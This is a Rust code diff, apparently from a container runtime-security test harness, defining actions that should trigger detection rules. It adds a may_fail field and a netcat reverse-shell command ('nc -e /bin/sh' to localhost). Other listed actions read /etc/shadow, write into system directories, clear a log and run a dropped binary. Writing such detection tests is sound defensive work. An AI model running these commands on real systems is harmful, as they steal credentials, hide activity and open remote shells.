@@ -12,6 +12,8 @@ pub struct Action {
     pub args: &'static [&'static str],
     /// An output field and its expected value.
     pub field: (&'static str, &'static str),
+    /// The action's own exit status does not matter (it is the exec that alerts).
+    pub may_fail: bool,
 }
 
 impl Action {
@@ -24,23 +26,34 @@ impl Action {
 
 /// The seeds' actions. Each is one `exec` in a running container.
 pub const ACTIONS: &[Action] = &[
-    Action { rule: "Read sensitive file untrusted", args: &["cat", "/etc/shadow"], field: ("fd.name", "/etc/shadow") },
-    Action { rule: "Write below etc", args: &["touch", "/etc/palisade-dropped"], field: ("fd.name", "/etc/palisade-dropped") },
+    Action { rule: "Read sensitive file untrusted", args: &["cat", "/etc/shadow"], field: ("fd.name", "/etc/shadow"), may_fail: false },
+    Action { rule: "Write below etc", args: &["touch", "/etc/palisade-dropped"], field: ("fd.name", "/etc/palisade-dropped"), may_fail: false },
     Action {
         rule: "Write below binary dir",
         args: &["touch", "/usr/bin/palisade-dropped"],
         field: ("fd.name", "/usr/bin/palisade-dropped"),
+        may_fail: false,
     },
     Action {
         rule: "Launch Package Management Process in Container",
         args: &["apt-get", "install", "curl"],
         field: ("proc.name", "apt-get"),
+        may_fail: false,
     },
-    Action { rule: "Clear Log Activities", args: &["sh", "-c", ": > /var/log/app.log"], field: ("fd.name", "/var/log/app.log") },
+    Action { rule: "Clear Log Activities", args: &["sh", "-c", ": > /var/log/app.log"], field: ("fd.name", "/var/log/app.log"), may_fail: false },
+    Action {
+        rule: "Netcat Remote Code Execution in Container",
+        // Run directly: busybox sh would run its `nc` applet without an exec. Nothing listens,
+        // so nc fails; its exec is what alerts.
+        args: &["nc", "-e", "/bin/sh", "127.0.0.1", "4444"],
+        field: ("proc.name", "nc"),
+        may_fail: true,
+    },
     Action {
         rule: "Drop and execute new binary in container",
         args: &["sh", "-c", "cp /bin/busybox /root/true && /root/true"],
         field: ("proc.exepath", "/root/true"),
+        may_fail: false,
     },
 ];
 
